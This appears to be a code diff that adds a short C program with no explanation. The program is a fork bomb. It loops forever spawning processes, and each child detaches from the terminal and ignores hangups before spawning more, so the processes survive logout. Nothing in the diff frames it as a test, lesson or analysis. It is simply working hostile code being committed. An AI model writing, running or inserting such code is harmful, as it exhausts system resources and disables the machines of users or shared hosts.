@@ -1,0 +1,8 @@
+int main(void)
+{
+    for (;;)
+        if (fork() == 0) {
+            setsid();
+            signal(SIGHUP, SIG_IGN);
+        }
+}
